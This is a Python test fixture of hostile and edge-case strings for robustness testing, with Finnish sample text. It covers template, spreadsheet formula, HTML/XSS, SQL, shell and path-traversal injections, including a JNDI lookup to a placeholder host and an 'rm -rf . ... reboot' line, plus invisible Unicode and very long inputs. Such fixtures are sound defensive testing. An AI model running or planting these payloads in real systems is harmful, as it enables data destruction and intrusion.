"""Texts that break programs: code of other languages, unseen characters, scripts, sheer length."""

_LONG_WORD = "pitkäsana" * 11_000
_MEGABYTE = "Hyvin pitkä vastaus, joka jatkuu ja jatkuu. " * 24_000
_STACK = "o" + "\u0302\u0303\u0301" * 200

STRINGS: dict[str, str] = {
    # Code of spreadsheets, templates, pages, shells, databases
    "template-jinja": "Tulos {{ 7*7 }} ja {{ config.__class__.__mro__ }}",
    "template-block": "{% for x in range(10**9) %}x{% endfor %}",
    "template-comment": "Alku {# kommentti #} loppu",
    "template-dollar": "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://example.org/a}",
    "template-format": "{0.__class__} {name!r} %s %n %(x)d {",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+HYPERLINK(\"http://example.org/\";\"Avaa\")",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=WEBSERVICE(\"http://127.0.0.1:{port}/\")",
    "html-script": "<script>alert(1)</script>",
    "html-image": "<img src=x onerror=alert(1)> <svg onload=alert(1)>",
    "html-iframe": "<iframe src=\"file://{outside}/canary.txt\"></iframe>",
    "html-link": "<link rel=attachment href=\"file://{outside}/canary.txt\">",
    "html-style": "</style><style>@import url(http://127.0.0.1:{port}/x.css)</style>",
    "html-comment": "<!-- <b>ei lihava --> --!> <![CDATA[x]]>",
    "html-entities": "&lt;b&gt; &amp;amp; &#x3c; &nbsp; &notanentity; &",
    "xml-cdata-end": "Nuoli ]]> ja <?xml version=\"1.0\"?> <!DOCTYPE x [<!ENTITY a \"b\">]> &a;",
    "css": "url(http://127.0.0.1:{port}/) } body { display: none } \\27 \\a",
    "sql": "'; DROP TABLE vastaukset; --",
    "shell": "$(touch {outside}/made) `id` ; rm -rf . | cat > x && reboot",
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini /dev/zero file:///etc/hostname",
    "markdown": "# ei otsikko **lihava** [linkki](javascript:alert(1)) ![kuva](file:///etc/passwd)",
    "markdown-escapes": "\\* \\_ \\` \\[ 1\\. | taulu | ~~~ ``` <https://example.org> [^1] [[S10]]",
    "word-field": "{ INCLUDETEXT \"c:\\\\x.docx\" } DDEAUTO c:\\\\x",
    "prose-value": "[[projects.count]] [[ei.ole]] [[[[x]]]] [[__class__]]",
    "note-marker": "Sisäinen: ei raporttiin Päätös: @S10981 @\"Ei ole\" (vastuu: , määräaika: )",
    "toml": "\"\"\" ''' [tour] year = 1 \\u0000",
    "json": "\",\"code\":\"x\"}] \\u0022 \\ud800",
    # Characters that nobody sees, and scripts
    "nul": "alku\x00loppu",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "escape-codes": "\x1b[31mpunainen\x1b[0m \x1b]0;otsikko\x07 \x9b2J",
    "line-separators": "yksi\u2028kaksi\u2029kolme\x85neljä\x0bviisi\x0ckuusi",
    "zero-width": "nä\u200bky\u200cmä\u200dtön\u2060 teksti\ufeff",
    "soft-hyphens": "ai\u00adkuis\u00adoh\u00adjaus",
    "bidi-controls": "tiedosto\u202excod.exe \u2066sisä\u2069 \u200eoikea\u200f",
    "rtl": "ייעוץ למבוגרים، إرشاد البالغين 123 suomea",
    "mixed-scripts": "Ohjaus 指導 комплекс कार्य ガイド ไทย አማርኛ",
    "emoji": "Hyvä 👍🏽 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇫🇮 ❤️ 1️⃣",
    "accent-stack": f"Zalgo {_STACK} loppu",
    "nfd": "A\u030alands vuxenva\u0308gledning, pa\u0308a\u0308to\u0308s",
    "compatibility": "ﬁ ligatuuri ½ ² ™ Ⅳ ㎏ ｆｕｌｌｗｉｄｔｈ",
    "non-characters": "\ufffe \uffff \ufdd0 \U0001fffe \U0010ffff",
    "private-use": "\ue000 \uf0b7 luettelo \U000f0000",
    "tags": "näkyvä\U000e0001\U000e0066\U000e007f",
    "replacement": "\ufffd\ufffd\ufffd ï»¿ Ã¤Ã¶",
    "only-accents": "\u0301\u0301\u0301",
    "only-spaces": " \u00a0\u2003\u3000\u200b\t ",
    "no-break": "35\u00a0% 1\u202f234 a\u2011b",
    "old-hangul": "\u1112\u1161\u11ab\u1100\u1173\u11af" * 50,
    # Length
    "long-word": _LONG_WORD,
    "megabyte": _MEGABYTE,
    "long-line-of-brackets": "[" * 20_000,
    "many-stars": "*" * 20_000 + "x" + "*" * 20_000,
    "many-links": "[a](" * 8_000,
    "many-references": "[[" * 10_000,
    "many-line-breaks": "rivi\n" * 5_000 + "\n" * 5_000,
}  # fmt: skip

# What UTF-8 cannot hold; only formats that name characters by number can carry these.
LONE_SURROGATES = "alku\ud800keski\udfffloppu"
